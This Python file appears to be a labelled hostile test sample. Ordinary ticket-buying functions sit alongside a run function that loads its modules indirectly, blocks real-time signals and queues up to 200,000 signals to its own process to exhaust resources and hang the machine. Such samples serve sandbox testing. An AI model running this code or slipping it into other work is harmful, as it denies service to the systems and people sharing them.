"""Sends itself and its group hundreds of thousands of signals that are queued, until no more are taken.

family: resources
aims-at: hang
takes: long
honest-score: 4
"""

import json
import sys

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


def run(name, mutex):
    ctypes, posix = __import__("ctypes"), sys.modules["posix"]
    library = ctypes.CDLL(None)
    signal = sys.modules["_signal"]
    signal.pthread_sigmask(0, range(34, 64))
    for number in range(200_000):
        if library.sigqueue(posix.getpid(), 34 + number % 30, ctypes.c_void_p(1)) < 0:
            break
    return buy(name)
